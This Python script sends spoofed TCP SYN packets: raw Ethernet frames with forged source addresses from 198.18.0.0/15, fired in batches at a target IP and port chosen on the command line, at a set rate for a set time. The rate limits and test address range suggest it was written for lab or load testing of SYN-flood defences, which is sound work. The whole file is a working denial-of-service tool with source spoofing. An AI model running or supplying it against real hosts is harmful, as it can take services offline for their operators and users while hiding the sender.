#!/usr/bin/python3
"""Spoofed TCP SYNs at a bounded rate for a bounded time, from one core: AF_PACKET frames built
once (4096 of them: 100 source addresses from 198.18.0.0/15, which nobody here owns, so the
SYN-ACKs go nowhere) and sent in batches of 256 with sendmmsg(2) through ctypes.

usage: syn_flood_sender.py IFACE DST_MAC DST_IP DST_PORT RATE SECONDS
Prints "sent N in S s" at the end."""
import ctypes
import random
import socket
import struct
import sys
import time

BATCH = 256
FRAMES = 4096
ADDRESSES = 100


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", Msghdr), ("len", ctypes.c_uint)]


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s & 0xffff) + (s >> 16)
    s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def syn_frame(dst_mac, src_mac, src_ip, dst_ip, sport, dport, seq):
    # Options as Linux sends them: MSS, SACK-permitted, timestamps, NOP, window scale.
    options = struct.pack("!BBH", 2, 4, 1460) + bytes([4, 2, 8, 10]) + struct.pack("!II", seq & 0xffff, 0) + \
        bytes([1, 3, 3, 7])
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + len(options) // 4) << 4, 0x02, 64240, 0, 0) + options
    pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main():
    iface, dst_mac, dst_ip, dst_port, rate, seconds = sys.argv[1:7]
    dst_mac = bytes.fromhex(dst_mac.replace(":", ""))
    dst_ip = socket.inet_aton(dst_ip)
    rate, seconds = float(rate), float(seconds)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
    src_mac = s.getsockname()[4]
    rnd = random.Random(1)
    sources = [struct.pack("!BBBB", 198, 18, i // 250, 1 + i % 250) for i in range(ADDRESSES)]
    frames = [syn_frame(dst_mac, src_mac, sources[i % ADDRESSES], dst_ip, rnd.randrange(1024, 65535), int(dst_port),
                        rnd.getrandbits(32)) for i in range(FRAMES)]
    buffers = [ctypes.create_string_buffer(f, len(f)) for f in frames]
    iovs = (Iovec * FRAMES)(*[Iovec(ctypes.addressof(b), len(f)) for b, f in zip(buffers, frames)])
    msgs = (Mmsghdr * FRAMES)()
    for i in range(FRAMES):
        msgs[i].hdr.iov = ctypes.pointer(iovs[i])
        msgs[i].hdr.iovlen = 1
    libc = ctypes.CDLL(None, use_errno=True)
    fd = s.fileno()
    sent = 0
    start = time.monotonic()
    end = start + seconds
    at = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = (now - start) * rate
        if sent >= due:
            time.sleep(min(0.001, (sent - due) / rate))
            continue
        n = libc.sendmmsg(fd, ctypes.byref(msgs, at * ctypes.sizeof(Mmsghdr)), BATCH, 0)
        if n > 0:
            sent += n
            at = (at + n) % (FRAMES - BATCH)
    print("sent %d in %.2f s" % (sent, time.monotonic() - start))


if __name__ == "__main__":
    main()
